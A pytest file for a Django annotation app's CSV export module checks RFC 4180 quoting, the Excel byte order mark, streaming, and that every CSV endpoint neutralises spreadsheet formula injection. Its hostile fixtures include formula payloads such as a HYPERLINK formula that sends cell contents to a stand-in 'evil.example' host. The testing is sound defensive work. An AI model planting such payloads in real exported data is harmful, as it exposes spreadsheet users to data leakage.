"""annotator.csv_output: RFC 4180, formula neutralisation, Excel's byte order mark, streaming."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pandas as pd
import pytest
from django.core.management.base import OutputWrapper
from django.http import StreamingHttpResponse
from django.test import RequestFactory

from annotator.csv_output import (
    BOM,
    FORMULA_STARTS,
    CsvWriter,
    csv_cell,
    csv_chunks,
    csv_excel_requested,
    csv_response,
    csv_text_neutralise,
    csv_text_restore,
    csv_write,
    row_batches,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a, b",
    'say "hi"',
    "two\nlines",
    "cr\r\nlf",
    "'=already quoted",
    "''@twice",
    "'ascii' codec can't decode",
    "'",
    "",
    "plain",
    "ünïcödé – “quotes” ✓",
]


class Named:
    def __init__(self, name: str):
        self.name = name

    def __str__(self) -> str:
        return self.name


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")  # a negative number is written as itself (csv_cell)


def formula_leading(rows) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]


# -- cells -------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_starting_with_a_formula_character_gets_a_quote_in_front(start):
    assert csv_text_neutralise(f"{start}x") == f"'{start}x"
    assert csv_cell(f"{start}x") == f"'{start}x"


def test_other_texts_are_written_as_they_are():
    for text in ("plain", "'ascii' codec", "a=b", " =not at the start", "1+1", "", "'"):
        assert csv_text_neutralise(text) == text


def test_quotes_before_a_formula_character_get_one_more_so_the_rule_can_be_undone():
    assert csv_text_neutralise("'=x") == "''=x"
    assert csv_text_neutralise("''-x") == "'''-x"
    for text in HOSTILE:
        assert csv_text_restore(csv_text_neutralise(text)) == text
        assert not csv_text_neutralise(text).startswith(FORMULA_STARTS)
    # a cell that was not neutralised is its own text
    assert csv_text_restore("'ascii'") == "'ascii'"


def test_numbers_stay_numbers_and_other_values_have_one_spelling():
    assert csv_cell(12) == 12 and csv_cell(0.25) == 0.25 and csv_cell(Decimal("19.8")) == Decimal("19.8")
    assert csv_cell(-3) == -3  # a number is no formula
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"
    assert csv_cell(float("nan")) == "nan" and csv_cell(float("-inf")) == "'-inf"
    assert csv_cell(Decimal("-Infinity")) == "'-Infinity"
    paris = timezone(timedelta(hours=2))
    assert csv_cell(datetime(2024, 5, 1, 11, 30, tzinfo=paris)) == "2024-05-01T09:30:00+00:00"
    assert csv_cell(datetime(2024, 5, 1, 9, 30).date()) == "2024-05-01"
    assert csv_cell(Named("=evil()")) == "'=evil()"  # anything else: its text, under the text rule


# -- files -------------------------------------------------------------------------------


def test_rfc_4180_crlf_and_minimal_quoting():
    out = io.BytesIO()
    count = csv_write(out, ["a", "b"], [["x", 1], ["a, b", 'say "hi"'], ["two\nlines", 2.5]])
    assert count == 3
    assert out.getvalue() == b'a,b\r\nx,1\r\n"a, b","say ""hi"""\r\n"two\nlines",2.5\r\n'


def test_hostile_texts_round_trip_through_csv_and_pandas_with_no_formula_leading_cell():
    out = io.BytesIO()
    csv_write(out, ["text", "n"], [[text, i] for i, text in enumerate(HOSTILE)])
    rows = parse(out.getvalue())
    assert formula_leading(rows) == []
    assert [csv_text_restore(row[0]) for row in rows[1:]] == HOSTILE
    frame = pd.read_csv(io.BytesIO(out.getvalue()), dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["text", "n"]
    assert [csv_text_restore(cell) for cell in frame["text"]] == HOSTILE
    assert list(frame["n"]) == [str(i) for i in range(len(HOSTILE))]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in frame["text"])


def test_excel_puts_a_utf8_byte_order_mark_in_front_and_pandas_reads_past_it():
    plain, excel = io.BytesIO(), io.BytesIO()
    csv_write(plain, ["name"], [["ünï"]])
    csv_write(excel, ["name"], [["ünï"]], excel=True)
    assert excel.getvalue() == b"\xef\xbb\xbf" + plain.getvalue()
    assert list(pd.read_csv(io.BytesIO(excel.getvalue())).columns) == ["name"]
    empty = io.BytesIO()
    csv_write(empty, ["name"], [], excel=True)
    assert empty.getvalue() == b"\xef\xbb\xbfname\r\n"


def test_text_streams_and_a_commands_stdout_get_the_same_text():
    binary, text, stdout = io.BytesIO(), io.StringIO(newline=""), io.StringIO(newline="")
    rows = [["=x", 1], ["two\nlines", 2]]
    for out in (binary, text, OutputWrapper(stdout)):
        csv_write(out, ["a", "b"], rows, excel=True)
    assert text.getvalue() == stdout.getvalue() == binary.getvalue().decode()
    assert text.getvalue().startswith(BOM + "a,b\r\n")  # OutputWrapper added no newline after the mark


def test_a_writer_passes_rows_on_in_chunks_and_the_rest_at_close():
    out = io.BytesIO()
    writer = CsvWriter(out, chunk_chars=50)
    writer.writerow(["header"])
    assert out.getvalue() == b""
    for i in range(10):
        writer.writerow([f"row {i:02d} " + "x" * 10])
    written = len(out.getvalue())
    assert 0 < written < 10 * 20
    writer.close()
    assert parse(out.getvalue())[-1] == ["row 09 xxxxxxxxxx"]


def test_chunks_are_the_file_and_read_rows_only_as_needed():
    consumed = []

    def rows():
        for i in range(1000):
            consumed.append(i)
            yield [f"=row {i}", i]

    chunks = csv_chunks(["text", "n"], rows(), chunk_chars=1000)
    first = next(chunks)
    assert 0 < len(consumed) < 1000
    data = first + b"".join(chunks)
    out = io.BytesIO()
    csv_write(out, ["text", "n"], ([f"=row {i}", i] for i in range(1000)))
    assert data == out.getvalue()
    assert b"".join(csv_chunks(["a"], [], excel=True)) == b"\xef\xbb\xbfa\r\n"


def test_row_batches():
    assert list(row_batches(range(7), 3)) == [[0, 1, 2], [3, 4, 5], [6]]
    assert list(row_batches([], 3)) == []


# -- downloads -----------------------------------------------------------------------------


@pytest.mark.parametrize(("query", "excel"), [("", False), ("?excel=1", True), ("?excel=true", True),
                                               ("?excel=0", False), ("?excel=nonsense", False)])
def test_a_response_streams_the_file_with_its_name(query, excel):
    request = RequestFactory().get(f"/x.csv{query}")
    assert csv_excel_requested(request) is excel
    response = csv_response(request, header=["title"], rows=iter([["=1+1"], ["a,b"]]), filename="my study.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="my study.csv"'
    assert "no-cache" in response["Cache-Control"] and "private" in response["Cache-Control"]
    body = b"".join(response.streaming_content)
    assert body == (b"\xef\xbb\xbf" if excel else b"") + b"title\r\n'=1+1\r\n\"a,b\"\r\n"


def test_a_non_ascii_filename_is_sent_the_rfc_6266_way():
    response = csv_response(RequestFactory().get("/"), header=["a"], rows=[], filename="études.csv")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%A9tudes.csv"


def test_aware_times_are_written_in_utc():
    out = io.BytesIO()
    csv_write(out, ["when"], [[datetime(2024, 1, 1, 23, 0, tzinfo=UTC)]])
    assert parse(out.getvalue())[1] == ["2024-01-01T23:00:00+00:00"]


# -- every CSV the app writes ----------------------------------------------------------------
#
# A study whose every name is hostile, coded through the real chain (sets → draw → labels →
# arbitration and pilot decisions); then every CSV endpoint of the app is fetched (found from
# the URL patterns, so that a new one without a recipe below fails here), parsed with Python's
# csv and with pandas, and checked for formula-leading cells and for the names coming back.

SET_A = '=HYPERLINK("http://evil.example/?q="&A1,"Server, cloud")'
SET_B = '+Mobile "phones"\nand tablets'
ROOT = '@Root, "quoted"'
INNER = "-Inner\tpart"
LEAF_A = "=1+1 leaf"
LEAF_B = "+leaf, two\nlines"
DEFINITION = "-definition\r\nwith a CR"
NOTE = "@note, \"quoted\""
REASON = "=reason\nline two"
SECOND_ROOT = '=SUM(A1) "second" root'
PILOT_NOTE = "+pilot, note"
TITLES = ['=HYPERLINK("http://evil.example","click")', "+1 deploy", "-2 serving", "@SUM(A1:A9)",
          "\ttab first", "\rcr first", 'commas, and "quotes"', "new\nline", "'=quoted already", "plain title"]
USERS = ("@owner", "-ann", "+bob")
FILE_ENDPOINTS = {"results:export_file", "api-results-export-file"}  # export jobs' files: the items CSV


def _walk(patterns, prefix="", namespace=None):
    from django.urls import URLResolver

    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = ":".join(n for n in (namespace, pattern.namespace) if n) or None
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        else:
            name = ":".join(n for n in (namespace, pattern.name) if n) if pattern.name else None
            yield name, prefix + str(pattern.pattern), pattern.callback


def _view_source(callback) -> str:
    import inspect

    view = getattr(callback, "view_class", None) or getattr(callback, "cls", None) or callback
    try:
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def csv_endpoints() -> set[str]:
    """URL names whose name or route ends in csv, whose view writes CSV, or that serve export files."""
    from django.urls import get_resolver

    found = set()
    for name, route, callback in _walk(get_resolver().url_patterns):
        source = _view_source(callback)
        if (name or "").endswith("csv") or route.endswith(".csv") or "text/csv" in source or "csv_response" in source:
            assert name, f"a CSV route without a name: {route}"
            found.add(name)
    return found | FILE_ENDPOINTS


@pytest.fixture
def hostile(db, queued):
    from annotator.jobs.runner import job_run
    from sampling.draws.design import DrawDesign, StratumChoice
    from sampling.draws.models import Assignment, SampleDraw
    from sampling.draws.services import sample_draw_labelling_start, sample_draw_start
    from taxonomy.review.arbitration.services import arbitration_decide, arbitration_start, pilot_decision_set
    from taxonomy.labelling.services import label_submit
    from taxonomy.tree.services import category_add
    from tests.factories import MembershipFactory, PostFactory, StudyFactory, UserFactory, evaluated_set

    study = StudyFactory(slug="hostile", name=SET_A)
    owner, ann, bob = (UserFactory(username=name) for name in USERS)
    MembershipFactory(study=study, user=owner, is_owner=True, is_arbitrator=True)
    for rater in (ann, bob):
        MembershipFactory(study=study, user=rater, is_rater=True)
    posts = [PostFactory(study=study, so_id=100 + i, title=title,
                         creation_date=datetime(2019 + i % 3, 1 + i, 1, tzinfo=UTC))
             for i, title in enumerate(TITLES)]
    first = evaluated_set(study=study, name=SET_A, posts=posts[:6])
    second = evaluated_set(study=study, name=SET_B, posts=posts[4:])
    draw = sample_draw_start(study=study, user=owner, design=DrawDesign(
        strata=(StratumChoice(first.pk, mode="census"), StratumChoice(second.pk, mode="census")), seed=11,
        pilot_share=0.3, raters_per_item=2, rater_ids=(ann.pk, bob.pk)))
    job_run(job_id=draw.job_id)
    draw = sample_draw_labelling_start(draw=SampleDraw.objects.get(pk=draw.pk), user=owner)

    root = category_add(study=study, name=ROOT, actor=owner, definition=DEFINITION)
    inner = category_add(study=study, name=INNER, actor=owner, parent=root)
    leaf_a = category_add(study=study, name=LEAF_A, actor=owner, parent=inner, definition="=2+2")
    leaf_b = category_add(study=study, name=LEAF_B, actor=owner, parent=root)
    reliability = list(draw.items.filter(part="reliability").order_by("post__so_id"))
    for index, item in enumerate(reliability):
        for assignment in Assignment.objects.filter(item=item).select_related("rater"):
            disagree = index == 0 and assignment.rater == bob
            label_submit(assignment=assignment, rater=assignment.rater, kind="categories",
                         category_ids=[leaf_b.pk] if disagree else [leaf_a.pk, leaf_b.pk][: 1 + index % 2],
                         note=NOTE)
    from taxonomy.review.agreement.services import agreement_run_start
    from annotator.jobs.runner import job_run

    run = agreement_run_start(study=study, scope="draw", draw=draw, resamples=20, seed=3, user=owner)
    job_run(job_id=run.job_id)
    arbitration_start(draw=draw, user=owner)
    arbitration_decide(item=reliability[0], arbitrator=owner, kind="categories", category_ids=[leaf_b.pk],
                       reason=REASON)
    for item in draw.items.filter(part="pilot"):
        pilot_decision_set(item=item, actor=owner, kind="categories", category_ids=[leaf_a.pk], reason=PILOT_NOTE)
    return {"study": study, "owner": owner, "draw": draw, "first": first, "second": second, "run": run}


PATHS = [f"{ROOT} > {INNER} > {LEAF_A}", f"{ROOT} > {LEAF_B}"]


def _body(response) -> bytes:
    assert response.status_code == 200, (response.status_code, getattr(response, "content", b"")[:300])
    return b"".join(response.streaming_content) if response.streaming else response.content


def _export_file(client, world, *, api: bool, excel: bool) -> bytes:
    from annotator.jobs.models import Job
    from annotator.jobs.runner import job_run

    slug = world["study"].slug
    if api:
        started = client.post(f"/api/studies/{slug}/results/exports/", {"kind": "items_csv", "excel": excel},
                              content_type="application/json")
        assert started.status_code == 202, started.content
        job = Job.objects.get(pk=started.json()["id"])
    else:
        started = client.post(f"/studies/{slug}/results/exports/", {"kind": "items_csv", **({"excel": "1"} if excel
                                                                                            else {})})
        assert started.status_code == 302, started.content
        job = Job.objects.order_by("-pk").first()
    job_run(job_id=job.pk)
    base = f"/api/studies/{slug}/results/exports/{job.pk}/file" if api else \
        f"/studies/{slug}/results/exports/{job.pk}/file"
    return _body(client.get(base))


def _recipes(world) -> dict:
    """URL name → (fetch(client, excel) → bytes, texts the file must give back)."""
    slug, draw = world["study"].slug, world["draw"]
    first, second = world["first"], world["second"]
    compare = f"?first={first.pk}&second={second.pk}"

    def get(url):
        return lambda client, excel: _body(client.get(url + ("&" if "?" in url else "?") + "excel=1" if excel
                                                      else url))

    items = [*TITLES, SET_A, SET_B, *PATHS, NOTE, REASON, "@owner"]
    made = {}

    def classifier(kind: str, *, api: bool):
        """A trained model and finished estimate, made at the first fetch (the classifier learns one
        category per root: a second, hostile root is added then, after the taxonomy's own CSVs)."""
        def fetch(client, excel):
            if not made:
                from taxonomy.tree.services import category_add
                from tests.classifier.rows import classifier_rows_make

                category_add(study=world["study"], name=SECOND_ROOT, actor=world["owner"])
                made["estimate"] = classifier_rows_make(study=world["study"], user=world["owner"])[1]
            url = f"{'/api' if api else ''}/studies/{slug}/classifier/estimates/{made['estimate'].pk}/{kind}.csv"
            return _body(client.get(url + ("?excel=1" if excel else "")))
        return fetch

    return {
        "classifier:estimate_csv": (classifier("estimates", api=False), [ROOT, SECOND_ROOT]),
        "api-classifier-estimate-csv": (classifier("estimates", api=True), [ROOT, SECOND_ROOT]),
        "classifier:predictions_csv": (classifier("predictions", api=False), [ROOT]),
        "api-classifier-predictions-csv": (classifier("predictions", api=True), [ROOT]),
        "sampling:draw_items_csv": (get(f"/studies/{slug}/draws/{draw.version}/items.csv"),
                                    [*TITLES, SET_A, SET_B, "+bob -ann"]),
        "sampling:draw_population_csv": (get(f"/studies/{slug}/draws/{draw.version}/population.csv"),
                                         [SET_A, SET_B]),
        "selection:set_years_csv": (get(f"/studies/{slug}/sets/{first.pk}/statistics/years.csv"), ["2019"]),
        "selection:set_response_times_csv": (
            get(f"/studies/{slug}/sets/{first.pk}/statistics/response-times.csv"), ["median"]),
        "selection:compare_csv": (get(f"/studies/{slug}/sets/compare/comparison.csv{compare}"), [SET_A, SET_B]),
        "agreement:run_csv": (get(f"/studies/{slug}/agreement/{world['run'].pk}/run.csv"), [LEAF_B]),
        "api-agreement-run-csv": (get(f"/api/studies/{slug}/agreement/{world['run'].pk}/run.csv"), [LEAF_B]),
        "results:taxonomy_csv": (get(f"/studies/{slug}/results/taxonomy.csv"),
                                 [ROOT, INNER, LEAF_A, LEAF_B, DEFINITION, *PATHS]),
        "api-results-taxonomy-csv": (get(f"/api/studies/{slug}/results/taxonomy.csv"),
                                     [ROOT, INNER, LEAF_A, LEAF_B, DEFINITION, *PATHS]),
        "results:saturation_csv": (get(f"/studies/{slug}/results/saturation.csv"), [PATHS[0]]),
        "api-results-saturation-csv": (get(f"/api/studies/{slug}/results/saturation.csv"), [PATHS[0]]),
        "results:export_file": (lambda client, excel: _export_file(client, world, api=False, excel=excel), items),
        "api-results-export-file": (lambda client, excel: _export_file(client, world, api=True, excel=excel),
                                    items),
    }


def check_csv(data: bytes, *, excel: bool, expected: list[str], where: str) -> None:
    """Parses with csv and pandas; no formula-leading cell; ``expected`` texts come back
    (each a whole cell, or a part of one such as a path in a list of labels)."""
    assert data.startswith(b"\xef\xbb\xbf") is excel, where
    assert data.endswith(b"\r\n"), where  # records end with CRLF
    rows = parse(data)
    assert rows and len({len(row) for row in rows}) == 1, where
    assert formula_leading(rows) == [], where
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert frame.shape == (len(rows) - 1, len(rows[0])), where
    assert [csv_text_restore(c) for c in frame.columns] == [csv_text_restore(c) for c in rows[0]], where
    cells = [cell for column in frame.columns for cell in frame[column]]
    assert not [cell for cell in cells + list(frame.columns) if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)], where
    restored = {csv_text_restore(cell) for row in rows for cell in row}
    for text in expected:
        assert text in restored or any(text in cell for cell in restored), (where, text)


def test_every_csv_endpoint_parses_with_csv_and_pandas_and_has_no_formula_leading_cell(client, hostile):
    recipes = _recipes(hostile)
    endpoints = csv_endpoints()
    assert endpoints - set(recipes) == set(), "a CSV endpoint without a recipe in this test"
    assert set(recipes) - endpoints == set(), "a recipe for an endpoint that is gone"
    client.force_login(hostile["owner"])
    for name, (fetch, expected) in sorted(recipes.items()):
        for excel in (False, True):
            check_csv(fetch(client, excel), excel=excel, expected=expected, where=f"{name} excel={excel}")


def test_the_taxonomy_command_writes_the_same_rules(hostile, tmp_path):
    from django.core.management import call_command

    out = io.StringIO(newline="")
    call_command("export_taxonomy", "--study", "hostile", stdout=out)
    check_csv(out.getvalue().encode(), excel=False, expected=[ROOT, DEFINITION, *PATHS], where="export_taxonomy")
    path = tmp_path / "taxonomy.csv"
    call_command("export_taxonomy", "--study", "hostile", "--out", str(path), "--excel", stderr=io.StringIO())
    check_csv(path.read_bytes(), excel=True, expected=[ROOT, *PATHS], where="export_taxonomy --excel")


def test_no_module_but_csv_output_writes_csv_itself():
    """One home: a csv.writer anywhere else would escape the rules above."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = [str(path.relative_to(root)) for package in ("annotator", "sampling", "taxonomy")
               for path in (root / package).rglob("*.py")
               if any(call in path.read_text() for call in ("csv.writer(", "csv.DictWriter("))]
    assert writers == ["annotator/csv_output.py"]
